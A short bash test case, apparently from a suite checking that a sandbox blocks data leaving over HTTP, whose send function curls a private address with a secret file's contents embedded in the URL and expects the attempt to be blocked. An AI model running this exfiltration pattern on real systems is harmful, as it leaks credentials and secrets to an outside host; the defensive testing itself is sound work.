# SPDX-License-Identifier: MIT
# shellcheck shell=bash
# channel: An HTTP client
# how: curl with the secret in the address
# expect: blocked

send() {
	bash -c 'curl -s -m 3 "http://10.99.0.2:7000/$(cat "$1")"' - "$SECRET"
	case $? in
	0 | 28 | 52) return "$DONE" ;; # nobody answers there
	7) return "$REFUSED" ;;
	esac
	return "$BROKEN"
}
